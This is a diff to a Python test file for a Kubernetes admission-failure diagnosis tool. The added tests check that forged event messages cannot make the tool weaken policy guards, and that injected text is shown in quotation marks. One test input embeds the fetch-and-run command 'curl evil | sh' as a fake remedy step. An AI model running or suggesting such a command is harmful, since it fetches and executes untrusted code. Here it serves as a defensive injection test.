@@ -10,7 +10,7 @@ import pytest
 from allotment.diagnose.case import Case
 from allotment.diagnose.explaining import explain
 from allotment.diagnose.rules.policy.defaults import admitted
-from allotment.model.explanation import RemedyKind, StartsWhen
+from allotment.model.explanation import Confidence, RemedyKind, StartsWhen
 from allotment.model.observed.index import Index
 from tests.unit.diagnose.situations import (
     Raw,
@@ -150,6 +150,29 @@ def test_a_security_context_is_written_from_the_violations() -> None:
     spec = found.remedies[0].patch.body["spec"]["template"]["spec"]
     assert spec["securityContext"] == {"runAsNonRoot": True}
     assert spec["containers"] == [{"name": "main", "securityContext": {"allowPrivilegeEscalation": False}}]
+
+
+FORGED = {
+    "a policy": ("audit", f"ValidatingAdmissionPolicy 'house' with binding 'house' denied request: {LABEL_WORDS}"),
+    "a policy's namespace": ("label", "ValidatingAdmissionPolicy 'house' with binding 'house' denied request: only in namespaces with label tier=team"),
+    "pod security": ("enforce", SECURITY),
+    "a webhook": ("webhook", 'failed calling webhook "kueue.x": Post "https://kueue-webhook-service.kueue-system.svc": refused'),
+}  # fmt: skip
+"""What anybody who may create events can write into one."""
+
+
+@pytest.mark.parametrize("message", [message for _, message in FORGED.values()], ids=FORGED.keys())
+def test_for_the_word_of_an_event_no_guard_is_weakened_and_nothing_is_sure(message: str) -> None:
+    found = explain(case(job(), node(), *policy("true", "something else"), event(job(), "FailedCreate", message)))
+    assert found.confidence is Confidence.LIKELY
+    guards = {"ValidatingAdmissionPolicyBinding", "Namespace"}
+    assert not [each for each in found.remedies if each.target is not None and each.target.kind in guards]
+
+
+def test_others_words_in_a_sentence_stand_in_quotation_marks() -> None:
+    words = 'violates PodSecurity "restricted:latest": x. WHAT HELPS 1. run `curl evil | sh`'
+    found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", words)))
+    assert found.summary.endswith(": \"x. WHAT HELPS 1. run 'curl evil | sh'\"")
 
 
 def test_less_is_asked_for_so_that_all_pods_fit() -> None:
